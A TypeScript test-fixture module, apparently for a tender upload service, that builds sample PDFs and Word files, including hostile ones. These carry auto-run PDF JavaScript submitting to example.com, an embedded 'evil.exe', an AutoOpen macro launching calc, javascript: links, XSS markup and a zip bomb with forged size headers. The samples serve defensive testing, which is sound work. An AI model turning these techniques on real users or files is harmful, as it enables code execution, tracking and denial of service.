import PDFDocument from 'pdfkit'
import { ZipFile } from 'yazl'

type PdfFile = InstanceType<typeof PDFDocument>

/** Bytes of a PDF, drawn by `draw`. */
async function pdfOf(options: object, draw: (pdf: PdfFile) => void): Promise<Buffer> {
  const pdf = new PDFDocument(options)
  const pieces: Buffer[] = []
  pdf.on('data', (piece: Buffer) => pieces.push(piece))
  const ended = new Promise((resolve) => pdf.on('end', resolve))
  draw(pdf)
  pdf.end()
  await ended
  return Buffer.concat(pieces)
}

/** A bid as bidders send it: pages of text, each with words of its own. */
export async function plainPdf(pages: number): Promise<Buffer> {
  return pdfOf({ autoFirstPage: false }, (pdf) => {
    for (let page = 1; page <= pages; page += 1) {
      pdf.addPage({ size: 'A4' })
      pdf.fontSize(20).text(`Part ${String(page)} of our tender`)
      pdf.moveDown().fontSize(12)
      pdf.text(`We will ring every carer in week ${String(page)}.`)
      pdf.moveDown(2).text('Our team knows the city well, and each of them was a carer.')
    }
  })
}

const SCRIPT = 'app.alert("run"); this.submitForm("https://example.com/");'

/** Everything that a PDF can try: scripts on opening and by name, a form with a script, a link, a file within, a launch. */
export async function hostilePdf(): Promise<Buffer> {
  return pdfOf({}, (pdf) => {
    const root = (pdf as unknown as { readonly _root: { readonly data: Record<string, unknown> } })._root.data
    const action = pdf.ref({ S: 'JavaScript', JS: new String(SCRIPT) })
    action.end('')
    root['OpenAction'] = action
    ;(pdf as unknown as { addNamedJavaScript: (name: string, script: string) => void }).addNamedJavaScript(
      'init',
      SCRIPT,
    )
    pdf.fontSize(14).text('A text like any other.')
    pdf.link(72, 72, 200, 40, 'https://example.com/link')
    pdf.file(Buffer.from('MZ evil'), { name: 'evil.exe' })
    pdf.initForm()
    pdf.formText('name', 72, 200, 200, 40, { value: 'Typed before' })
  })
}

export async function lockedPdf(): Promise<Buffer> {
  return pdfOf({ userPassword: 'secret', pdfVersion: '1.7' }, (pdf) => pdf.text('Nobody reads this.'))
}

const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const RELATIONS =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
/** A picture that is not in the file, and a link that runs a script. */
const OUTSIDE =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://example.com/seen.png" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:parent.hit=1" TargetMode="External"/></Relationships>'

function wordText(paragraphs: readonly string[]): string {
  const body = paragraphs.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join('')
  const picture =
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId7" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  const link =
    '<w:p><w:hyperlink r:id="rId8" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>Press here</w:t></w:r></w:hyperlink></w:p>'
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}${picture}${link}</w:body></w:document>`
}

async function zipOf(parts: ReadonlyMap<string, Buffer>): Promise<Buffer> {
  const zip = new ZipFile()
  for (const [name, bytes] of parts) zip.addBuffer(bytes, name)
  zip.end()
  const pieces: Buffer[] = []
  for await (const piece of zip.outputStream) pieces.push(Buffer.from(piece as Uint8Array))
  return Buffer.concat(pieces)
}

function wordParts(paragraphs: readonly string[]): Map<string, Buffer> {
  return new Map([
    ['[Content_Types].xml', Buffer.from(TYPES)],
    ['_rels/.rels', Buffer.from(RELATIONS)],
    ['word/document.xml', Buffer.from(wordText(paragraphs))],
    ['word/_rels/document.xml.rels', Buffer.from(OUTSIDE)],
  ])
}

/** A Word file with a macro, a picture from elsewhere, a link that is a script, and mark-up typed as text. */
export async function hostileWord(): Promise<Buffer> {
  const parts = wordParts([
    'We open at nine.',
    '&lt;img src=x onerror="parent.hit=1"&gt; &lt;script&gt;parent.hit=1&lt;/script&gt;',
    'We close at five.',
  ])
  parts.set('word/vbaProject.bin', Buffer.from('Sub AutoOpen()\nShell "calc"\nEnd Sub'))
  return zipOf(parts)
}

/** A Word file of a few kilobytes, of which the text unpacks to many megabytes; it says of itself that it is small. */
export async function wordBomb(): Promise<Buffer> {
  const megabytes = 300
  const parts = wordParts(['Small.'])
  const big = Buffer.alloc(megabytes * 1024 * 1024, 'a')
  parts.set('word/styles.xml', big)
  const zip = await zipOf(parts)
  const size = Buffer.alloc(4)
  size.writeUInt32LE(big.length)
  // wherever the true size is written, a small one takes its place
  for (let at = zip.indexOf(size); at >= 0; at = zip.indexOf(size, at + 4)) zip.writeUInt32LE(100, at)
  return zip
}
